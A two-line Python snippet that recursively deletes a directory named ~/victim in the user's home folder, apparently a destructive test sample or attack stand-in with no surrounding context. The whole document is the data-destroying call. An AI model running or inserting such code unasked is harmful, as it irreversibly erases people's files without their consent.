import shutil, os
shutil.rmtree(os.path.expanduser("~/victim"))
